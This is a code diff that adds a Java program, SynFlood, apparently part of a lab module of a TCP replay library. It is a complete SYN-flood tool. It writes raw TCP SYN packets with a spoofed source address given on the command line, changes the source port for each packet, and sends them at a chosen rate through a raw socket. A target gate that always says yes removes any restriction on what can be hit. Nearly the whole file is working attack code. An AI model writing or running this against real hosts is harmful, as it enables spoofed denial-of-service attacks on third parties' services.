@@ -1,0 +1,112 @@
+package io.tcpcopy.lab;
+
+import io.tcpcopy.inject.InjectCounter;
+import io.tcpcopy.inject.RawSocketSink;
+import io.tcpcopy.inject.TargetGate;
+import io.tcpcopy.loop.EventLoop;
+import io.tcpcopy.loop.LoopTimer;
+import io.tcpcopy.net.Endpoint;
+import io.tcpcopy.net.StartException;
+import io.tcpcopy.packet.Checksum;
+import io.tcpcopy.packet.Ipv4Address;
+import io.tcpcopy.packet.Ipv4Header;
+import io.tcpcopy.packet.TcpHeader;
+import java.nio.ByteBuffer;
+import java.util.concurrent.TimeUnit;
+
+/**
+ * Sends SYNs, each from another port, and never anything else. From an address that no host has, nobody answers for it
+ * either.
+ *
+ * <p>Usage: {@code SynFlood FROM_ADDRESS TO_ADDRESS TO_PORT NUMBER PER_SECOND}. It prints how many were sent.
+ */
+public final class SynFlood {
+
+    private static final int FIRST_PORT = 10_000;
+    private static final int LENGTH = Ipv4Header.MIN_LENGTH + TcpHeader.MIN_LENGTH;
+    private static final int WINDOW = 64_000;
+    private static final int TTL = 64;
+    private static final long INTERVAL_NS = TimeUnit.MILLISECONDS.toNanos(1);
+
+    private final ByteBuffer packet = ByteBuffer.allocateDirect(LENGTH);
+    private final TcpHeader tcp = new TcpHeader();
+    private final int from;
+    private final Endpoint to;
+    private final int number;
+    private final int perSecond;
+    private final EventLoop loop = new EventLoop(System::nanoTime);
+    private final long startNs = loop.nowNs();
+    private final LoopTimer timer = loop.timer(this::sendDue);
+    private final RawSocketSink sink;
+    private int sent;
+
+    private SynFlood(int from, Endpoint to, int number, int perSecond) throws StartException {
+        this.from = from;
+        this.to = to;
+        this.number = number;
+        this.perSecond = perSecond;
+        sink = new RawSocketSink(loop, new OpenGate());
+    }
+
+    /** A flood has no regard for what is in its way. */
+    private static final class OpenGate implements TargetGate {
+        @Override
+        public void refresh() {
+            // It never changes.
+        }
+
+        @Override
+        public boolean isOpen(int target) {
+            return true;
+        }
+    }
+
+    /** Starts it. */
+    public static void main(String[] args) throws StartException {
+        Endpoint to = new Endpoint(Ipv4Address.parse(args[1]).orElseThrow(), Integer.parseInt(args[2]));
+        new SynFlood(Ipv4Address.parse(args[0]).orElseThrow(), to, Integer.parseInt(args[3]), Integer.parseInt(args[4]))
+                .run();
+    }
+
+    private void run() {
+        timer.schedule(0);
+        loop.onTurnEnd(sink::flush);
+        loop.run();
+        System.out.println(sink.counters().get(InjectCounter.SENT) + " SYNs sent");
+        sink.close();
+        loop.close();
+    }
+
+    private void sendDue() {
+        long due = 1 + (loop.nowNs() - startNs) * perSecond / TimeUnit.SECONDS.toNanos(1);
+        while (sent < Math.min(due, number)) {
+            writeSyn(FIRST_PORT + sent);
+            sink.send(packet, 0, LENGTH);
+            sent++;
+        }
+        if (sent < number) {
+            timer.schedule(INTERVAL_NS);
+        } else {
+            loop.stop();
+        }
+    }
+
+    private void writeSyn(int port) {
+        new Ipv4Header()
+                .wrap(packet, 0)
+                .headerLength(Ipv4Header.MIN_LENGTH)
+                .totalLength(LENGTH)
+                .ttl(TTL)
+                .protocol(Ipv4Header.PROTOCOL_TCP)
+                .source(from)
+                .destination(to.address());
+        tcp.wrap(packet, Ipv4Header.MIN_LENGTH)
+                .sourcePort(port)
+                .destinationPort(to.port())
+                .seq(port)
+                .headerLength(TcpHeader.MIN_LENGTH)
+                .flags(TcpHeader.SYN)
+                .window(WINDOW);
+        tcp.checksum(Checksum.tcp(packet, from, to.address(), Ipv4Header.MIN_LENGTH, TcpHeader.MIN_LENGTH));
+    }
+}
